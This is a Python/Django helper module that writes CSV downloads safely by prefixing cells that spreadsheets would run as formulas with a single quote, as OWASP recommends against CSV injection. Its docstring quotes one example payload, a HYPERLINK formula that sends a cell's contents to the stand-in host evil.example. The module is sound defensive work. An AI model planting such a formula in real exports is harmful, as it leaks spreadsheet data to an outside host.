"""The one way Candour writes a CSV file for people to open: cells cannot run as formulas.

Spreadsheet programs treat a cell beginning with = + - @ (or a tab or carriage return
before one) as a formula, so a team name or an organisation's own survey question such
as ``=HYPERLINK("https://evil.example/?"&A1,"Open")`` would run when a manager opened
the download. Following OWASP's guidance on CSV injection, such a cell is written with a
leading single quote, which spreadsheets show as text. Numbers stay numbers: only text
cells are changed, so "-3" as an int is written as it is.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

from django.http import HttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def safe_cell(value: object) -> object:
    """The value, with a text cell that a spreadsheet would run made inert."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeCsvWriter:
    """csv.writer, with every text cell passed through ``safe_cell``."""

    def __init__(self, destination: _Writable) -> None:
        self._writer = csv.writer(destination)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_download(filename: str) -> tuple[HttpResponse, SafeCsvWriter]:
    """An attachment response and the safe writer that fills it."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response, SafeCsvWriter(response)
